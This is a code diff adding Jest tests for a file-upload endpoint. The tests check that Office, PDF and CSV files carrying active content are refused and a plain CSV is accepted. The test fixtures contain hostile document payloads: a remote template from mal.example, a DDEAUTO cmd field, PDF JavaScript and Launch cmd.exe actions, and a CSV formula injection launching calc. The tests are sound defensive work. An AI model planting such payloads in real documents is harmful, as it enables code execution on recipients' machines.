@@ -1,6 +1,11 @@
 import { connect, type Socket } from 'node:net';
-import { afterEach, describe, expect, it } from '@jest/globals';
+import { afterEach, beforeAll, describe, expect, it } from '@jest/globals';
+import { Person } from '@passerelle/accounts';
+import { sessionOf } from '@passerelle/accounts/testing';
+import { aConcept } from '@passerelle/concepts/testing';
 import { Settings } from '@passerelle/config';
+import { anOfficeDocument, aPdf } from '@passerelle/files/testing';
+import { ask } from '@passerelle/harness/journey';
 import { bootProduct } from '@passerelle/harness/product';
 import { serveHealth } from '../../apps/server/src/health/index.js';
 
@@ -65,5 +70,62 @@ describe('silent connections', () => {
     expect(await statusFor('127.0.0.3', healthPort)).toBe('200');
     await health?.close();
     await Promise.all(crowd.map(ended));
+  });
+});
+
+describe('on a product without an antivirus', () => {
+  const product = bootProduct({ worker: false });
+  let cookie: string;
+  let conceptId: string;
+  beforeAll(async () => {
+    await product.as('lina@cfa.example');
+    const { id } = await product.database.manager.findOneByOrFail(Person, { email: 'lina@cfa.example' });
+    cookie = await sessionOf(product.app, id);
+    ({ id: conceptId } = await aConcept(product.database, { carrierId: id, joined: [id] }));
+  });
+  const send = async (name: string, bytes: Buffer): Promise<{ status: number; message?: string }> => {
+    const to = new URLSearchParams({ to: 'concept', id: conceptId, part: 'what_exists', name });
+    const answer = await fetch(`${product.url}/api/files?${to.toString()}`, {
+      method: 'POST',
+      headers: { cookie, origin: product.url, 'content-type': 'application/octet-stream' },
+      body: new Uint8Array(bytes),
+    });
+    return { status: answer.status, ...((await answer.json()) as { message?: string }) };
+  };
+
+  it('evidence that acts is refused, with what to send instead', async () => {
+    const template = `<Relationships><Relationship Type="x/attachedTemplate" Target="https://mal.example/t.dotm" TargetMode="External"/></Relationships>`;
+    const acting: [name: string, bytes: Buffer][] = [
+      ['devis.docx', anOfficeDocument('docx', { parts: { 'word/_rels/settings.xml.rels': template } })],
+      [
+        'devis.docx',
+        anOfficeDocument('docx', {
+          parts: { 'word/document.xml': '<w:instrText>DDEAUTO cmd "/k"</w:instrText>' },
+        }),
+      ],
+      ['devis.docx', anOfficeDocument('docx', { parts: { 'word/document.xml': '<w:altChunk r:id="a"/>' } })],
+      ['devis.pdf', aPdf('x\n9 0 obj<</S/J#61vaScript/JS(x)>>endobj')],
+      ['devis.pdf', aPdf('x\n9 0 obj<</S/Launch/F(cmd.exe)>>endobj')],
+      ['devis.csv', Buffer.from("Prix;=cmd|'/C calc'!A0")],
+    ];
+    for (const [name, bytes] of acting) {
+      const { status, message } = await send(name, bytes);
+      expect([name, status, message]).toEqual([name, 400, expect.stringMatching(/PDF/)]);
+    }
+    expect(await send('prix.csv', Buffer.from('Prix;-5\nTél.;+33 6 12 34 56 78'))).toMatchObject({
+      status: 201,
+    });
+  });
+
+  it('a page can say beside a file that nobody has examined it', async () => {
+    const lina = await product.as('lina@cfa.example');
+    const { gates } = await ask<{ gates: { items: { evidence: { file: unknown }[] }[] }[] }>(
+      lina,
+      'query ($id: ID!) { concept(id: $id) { gates { items { evidence { file { name readiness scanned } } } } } }',
+      { id: conceptId },
+    );
+    expect(gates.flatMap(({ items }) => items.flatMap(({ evidence }) => evidence))).toEqual([
+      { file: { name: 'prix.csv', readiness: 'ready', scanned: false } },
+    ]);
   });
 });
